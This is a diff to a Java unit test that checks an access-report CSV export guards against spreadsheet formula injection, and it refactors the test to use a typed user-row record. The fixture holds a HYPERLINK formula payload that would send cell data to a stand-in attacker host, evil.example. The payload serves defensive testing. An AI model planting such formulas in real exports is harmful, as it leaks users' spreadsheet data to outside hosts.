@@ -26,19 +26,18 @@ public class FormulaSafeCsvTests extends OpenSearchTestCase {
     }
 
     public void testAccessReportCsvIsGuarded() {
-        Map<String, Object> report = Map.of(
-                "users",
-                List.of(Map.of(
-                        "user", "=HYPERLINK(\"http://evil.example/x?\"&A1,\"open\")",
-                        "accesses", 1,
-                        "ips", List.of("203.0.113.7"),
-                        "first", "2024-01-01T00:00:00.000Z",
-                        "last", "2024-01-01T00:00:00.000Z")));
+        List<AccessReportResult.UserRow> users = List.of(new AccessReportResult.UserRow(
+                "=HYPERLINK(\"http://evil.example/x?\"&A1,\"open\")",
+                1,
+                List.of("203.0.113.7"),
+                List.of(),
+                "2024-01-01T00:00:00.000Z",
+                "2024-01-01T00:00:00.000Z"));
         assertEquals(
                 "kind,identity,accesses,related,first,last\n"
                         + "user,\"'=HYPERLINK(\"\"http://evil.example/x?\"\"&A1,\"\"open\"\")\",1,203.0.113.7,"
                         + "2024-01-01T00:00:00.000Z,2024-01-01T00:00:00.000Z\n",
-                AccessReport.csv(report));
+                AccessReport.csv(users, List.of()));
     }
 
     public void testTimeParametersOutsideFourDigitYearsAre400s() {
